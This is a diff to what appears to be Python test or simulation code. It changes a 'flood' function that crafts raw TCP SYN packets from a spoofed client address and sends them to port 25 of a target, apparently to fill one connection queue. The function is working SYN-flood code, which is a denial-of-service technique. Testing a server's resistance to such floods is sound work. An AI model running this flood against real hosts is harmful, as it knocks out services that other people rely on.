@@ -27,12 +27,11 @@ def overrun(host):
 
 
 def flood(host, address, count):
-    """SYNs of clients that are not there, from that host."""
-    server = socket.inet_aton(address)
+    """SYNs of a client that is not there, from that host: they are for one queue."""
+    client, server = bytes((192, 0, 2, 10)), socket.inet_aton(address)
     with host.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
         for number in range(count):
-            client = bytes((192, 0, 2, 10 + number % 100))
-            begin = struct.pack("!HHIIBBHHH", 1024 + number // 100, 25, number, 0, 0x50, 2, 1024, 0, 0)
+            begin = struct.pack("!HHIIBBHHH", 1024 + number % 64000, 25, number, 0, 0x50, 2, 1024, 0, 0)
             begin = begin[:16] + struct.pack("!H", checksum(client + server + b"\0\6\0\x14" + begin)) + begin[18:]
             header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, number & 0xffff, 0, 64, 6, 0, client, server)
             with contextlib.suppress(BlockingIOError):
